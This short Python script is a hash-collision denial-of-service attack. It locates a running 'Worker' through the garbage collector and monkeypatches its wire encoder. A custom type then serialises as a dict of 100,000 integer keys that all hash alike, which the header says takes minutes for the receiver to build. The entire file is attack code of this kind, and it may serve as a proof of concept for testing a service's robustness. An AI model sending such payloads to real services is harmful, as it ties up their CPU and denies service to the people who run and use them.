# Send a dict of a hundred thousand integers that all have the same hash: to build it takes minutes.
import gc

worker = next(o for o in gc.get_objects() if type(o).__name__ == "Worker")
Worker = type(worker)

import sys

wire = sys.modules[type(worker._encoder()).__module__]


class Same:
    pass


def write(encoder, value):
    encoder.number(value)
    pairs = ["d", "dict"]
    for k in range(1, 100_000):
        pairs += [["i", hex(k * (2**61 - 1))], 0]
    return pairs


wire._BASES = {Same: write, **wire._BASES}


def dot(a, b):
    return Same()
